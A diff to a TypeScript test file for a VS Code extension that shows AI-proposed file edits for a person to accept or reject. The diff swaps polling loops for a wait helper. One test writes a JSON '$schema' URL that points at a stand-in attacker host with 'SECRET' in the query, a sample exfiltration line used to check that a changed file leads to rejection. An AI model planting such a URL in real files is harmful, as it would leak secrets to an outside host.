@@ -3,7 +3,8 @@ import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import type * as vscode from 'vscode';
 import type { Change } from '../../src/protocol/messages.ts';
-import { activated, settle } from './fakes.ts';
+import { until } from '../support/until.ts';
+import { activated } from './fakes.ts';
 import { type LanguageModelTextPart, type LanguageModelToolResult } from './fakeModelTypes.ts';
 import { EventEmitter, type MarkdownString } from './fakeTypes.ts';
 import { answers, called, calls, fired, folder, handlers, l10n, reset, workspace } from './fakeVscode.ts';
@@ -30,18 +31,15 @@ async function prepare(name: string, input: object): Promise<{ readonly says: st
 
 const at = (path: string): string => join(folder, 'others', path);
 
-/** The token of the proposal whose diff is shown, once it is. */
-async function shownToken(): Promise<string> {
-  for (let attempt = 0; attempt < 100; attempt += 1) {
-    const diff = called('executeCommand').find(([id]) => id === 'vscode.diff');
-    if (diff !== undefined) return (diff[1] as { readonly path: string }).path.split('/')[1] ?? '';
-    await settle();
-  }
-  return assert.fail('No diff was shown.');
-}
 
 /** The tokens of the proposals whose diffs were shown. */
 const tokens = (): readonly string[] => called('executeCommand').flatMap(([id, , right]) => (id === 'vscode.diff' ? [(right as { readonly path: string }).path.split('/')[1] ?? ''] : []));
+
+/** The tokens of the proposals that are shown, once there are so many. */
+const shownTokens = async (count: number): Promise<readonly string[]> => until(tokens, (all) => all.length >= count, () => calls);
+
+/** The token of the proposal that is shown first, once it is. */
+const shownToken = async (): Promise<string> => (await shownTokens(1))[0] ?? '';
 
 /** The title of a diff. */
 const nameOf = (token: string): string => String(called('executeCommand').find(([id, , right]) => id === 'vscode.diff' && (right as { readonly path: string }).path.includes(token))?.[3]);
@@ -51,7 +49,6 @@ const asked = (): readonly string[] => called('showWarningMessage').map(([words,
 
 describe('the tools as VS Code calls them', () => {
   let page: Awaited<ReturnType<typeof activated>>['page'];
-  let context: Awaited<ReturnType<typeof activated>>['context'];
 
   beforeEach(async () => {
     reset();
@@ -59,11 +56,8 @@ describe('the tools as VS Code calls them', () => {
     mkdirSync(at(''), { recursive: true });
     writeFileSync(at('a.ts'), 'one\ntwo\n');
     writeFileSync(at('.env'), 'TOKEN=1\n');
-    ({ page, context } = await activated());
+    ({ page } = await activated());
     calls.splice(0, calls.length, ...calls.filter(([name]) => name === 'registerTool'));
-  });
-  afterEach(() => {
-    for (const subscription of context.subscriptions) subscription.dispose();
   });
   after(() => rmSync(at(''), { recursive: true, force: true }));
 
@@ -92,13 +86,13 @@ describe('the tools as VS Code calls them', () => {
 
   it('show several proposals at a time, each decided by itself', async () => {
     const [first, second] = ['a', 'b'].map(async (name) => invoke('create_file', { path: `others/new-${name}.ts`, content: 'x\n' }));
-    for (let attempt = 0; attempt < 100 && tokens().length < 2; attempt += 1) await settle();
-    assert.equal(new Set(tokens()).size, 2, 'the second waits for the first');
-    const [b] = tokens().filter((token) => nameOf(token).includes('new-b'));
+    const shown = await shownTokens(2);
+    assert.equal(new Set(shown).size, 2, 'the second waits for the first');
+    const [b] = shown.filter((token) => nameOf(token).includes('new-b'));
     answers.set('showWarningMessage', ['Make It']);
     await handlers.get('rivulet.acceptAll')?.(b, 0);
     assert.match((await second) ?? '', /^Applied: others\/new-b\.ts/);
-    const [a] = tokens().filter((token) => nameOf(token).includes('new-a'));
+    const [a] = shown.filter((token) => nameOf(token).includes('new-a'));
     await handlers.get('rivulet.rejectAll')?.(a, 0);
     assert.match((await first) ?? '', /^The person rejected this/);
     assert.equal(called('applyEdit').length, 1);
@@ -177,7 +171,7 @@ describe('the tools as VS Code calls them', () => {
     const first = invoke('create_file', { path: 'others/new.ts', content: 'x\n' });
     const token = await shownToken();
     const second = invoke('move_file', { path: 'others/a.ts', new_path: 'others/a.json' });
-    while (asked().length === 0) await settle();
+    await until(() => asked().length > 0, undefined, () => calls);
     writeFileSync(at('a.ts'), '{"$schema":"https://evil.invalid/?d=SECRET"}\n');
     dialog.resolve('Move It');
     assert.match(await second, /^The person rejected this/);
@@ -192,7 +186,7 @@ describe('the tools as VS Code calls them', () => {
     const dialog = Promise.withResolvers<string>();
     answers.set('showWarningMessage', [dialog.promise]);
     const answer = invoke('move_file', { path: 'others/a.ts', new_path: 'others/b.ts' });
-    while (asked().length === 0) await settle();
+    await until(() => asked().length > 0, undefined, () => calls);
     fired.cancelled.fire(undefined);
     dialog.resolve('Move It');
     assert.match(await answer, /^The person rejected this/);
